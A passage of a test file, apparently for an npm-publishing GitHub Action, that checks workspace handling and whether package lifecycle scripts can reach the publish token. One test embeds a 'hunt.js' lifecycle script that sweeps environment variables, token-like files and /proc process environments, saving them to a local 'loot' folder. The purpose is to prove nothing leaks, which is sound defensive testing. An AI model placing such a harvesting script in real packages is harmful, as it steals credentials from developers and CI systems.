        sandbox,
        'mono',
        rootManifest,
        {
          'packages/a': { name: '@rootws/a', version: '1.0.0' }
        },
        files
      )
      proxy.clear()
      const run = await runAction({
        inputs: { token, registry: proxy.url, package: 'mono' },
        sandbox
      })
      expect(run.main.exitCode).toBe(1)
      expect(run.outputs['error-code']).toBe('PACKAGE_INVALID')
      const [error] = annotations(run, 'error')
      expect(error.message).toContain(
        '`package` (mono) is a workspace root, not a package to publish'
      )
      expect(error.message).toContain('Set `workspaces: true`')
      expect(error.message).toContain('or point `package` at one of its packages')
      expect(proxy.requests.filter((r) => r.method !== 'GET')).toEqual([])
    }
  )
})

describe('lifecycle scripts in a workspace and the token', () => {
  it('run per package while no credential exists; their hunt finds nothing, and the post step removes everything', async () => {
    const sandbox = makeSandbox()
    const loot = path.join(sandbox.root, 'loot')
    fs.mkdirSync(loot)
    const hunt = `
const fs = require('fs'), path = require('path')
const script = process.env.npm_lifecycle_event
const found = []
const read = (source, file) => { try { found.push({ source, file, text: fs.readFileSync(file, 'latin1') }) } catch {} }
found.push({ source: 'env', text: JSON.stringify(process.env) })
found.push({ source: 'argv', text: process.argv.join(' ') })
const walk = (dir, depth) => {
  let entries = []
  try { entries = fs.readdirSync(dir, { withFileTypes: true }) } catch { return }
  for (const e of entries) {
    const full = path.join(dir, e.name)
    if (e.isDirectory() && depth < 6 && e.name !== 'node_modules') walk(full, depth + 1)
    else if (e.isFile() && /npmrc|\\.log$|token|\\.json$/i.test(e.name) && full.indexOf(${JSON.stringify(loot)}) !== 0) read('file', full)
  }
}
for (const dir of [process.env.HOME, process.env.RUNNER_TEMP, process.env.GITHUB_WORKSPACE, ${JSON.stringify(sandbox.root)}]) walk(dir, 0)
for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  let cmdline = ''
  try { cmdline = fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').split('\\0').join(' ') } catch {}
  found.push({ source: 'cmdline', pid, cmdline, text: cmdline })
  try { found.push({ source: 'environ', pid, cmdline, text: fs.readFileSync('/proc/' + pid + '/environ', 'latin1') }) } catch {}
}
const credentialDirs = fs.readdirSync(process.env.RUNNER_TEMP).filter((n) => n.startsWith('npm-automation-publish-'))
const own = JSON.parse(fs.readFileSync('package.json', 'utf8')).name.replace('/', '+')
fs.writeFileSync(path.join(${JSON.stringify(loot)}, own + '-' + script + '.json'), JSON.stringify({ package: own, script, credentialDirs, found }))
`
    const SCRIPTS = ['prepublishOnly', 'prepack', 'prepare', 'postpack', 'publish', 'postpublish']
    const scripts = Object.fromEntries(SCRIPTS.map((s) => [s, 'node ../../hunt.js']))
    const root = writeWorkspace(
      sandbox,
      'mono',
      { name: 'huntws-root', private: true },
      {
        'packages/a': { name: '@huntws/a', version: '1.0.0', scripts },
        'packages/b': {
          name: '@huntws/b',
          version: '1.0.0',
          scripts,
          dependencies: { '@huntws/a': 'workspace:^' }
        }
      },
      { 'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\n', 'hunt.js': hunt }
    )
    expect(fs.existsSync(path.join(root, 'hunt.js'))).toBe(true)
    proxy.clear()
    const run = await runAction({
      inputs: { token: ALIAS, registry: proxy.url, package: 'mono', workspaces: 'true' },
      sandbox
    })
    expect(run.main.exitCode).toBe(0)
    expect(run.post?.exitCode).toBe(0)
    expect(proxy.uploads().map((u) => u.upload)).toEqual(['@huntws/a', '@huntws/b'])
    // The alias was what the action sent; the proxy swapped it.
    expect(proxy.requests.filter((r) => r.upload).every((r) => r.status === 201)).toBe(true)

    const dumps = fs.readdirSync(loot).map(
      (file) =>
        JSON.parse(fs.readFileSync(path.join(loot, file), 'utf8')) as {
          package: string
          script: string
          credentialDirs: string[]
          found: { source: string; pid?: string; cmdline?: string; text: string }[]
        }
    )
    // Every script of every package ran, each with no credential dir in existence.
    expect(dumps.map((d) => `${d.package} ${d.script}`).sort()).toEqual(
      ['@huntws+a', '@huntws+b'].flatMap((p) => SCRIPTS.map((s) => `${p} ${s}`)).sort()
    )
    for (const dump of dumps) {
      expect({ [`${dump.package} ${dump.script}`]: dump.credentialDirs }).toEqual({
        [`${dump.package} ${dump.script}`]: []
      })
      // The hunt read the processes: it is able (its own environ is among them).
      expect(
        dump.found.some((f) => f.source === 'environ' && f.text.includes('npm_lifecycle_event'))
      ).toBe(true)
      for (const secret of [ALIAS, token]) {
        const hits = dump.found
          .filter((f) => findLeaks(secret, { texts: { x: f.text } }).length > 0)
          .map(
            (f) => `${dump.package} ${dump.script}: ${f.source} ${f.pid ?? ''} ${f.cmdline ?? ''}`
          )
        expect(hits).toEqual([])
      }
    }
    // Nothing left: the runner's temp dir is as the runner made it, and no form of either token
    // is anywhere in the sandbox (home, workspace, runner temp, the loot) or the logs.
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
    for (const secret of [ALIAS, token]) {
      expect(findLeaks(secret, runSources(run, [sandbox.root]))).toEqual([])
      expect(findLeaks(secret, { texts: run.outputs })).toEqual([])
    }
  })
})
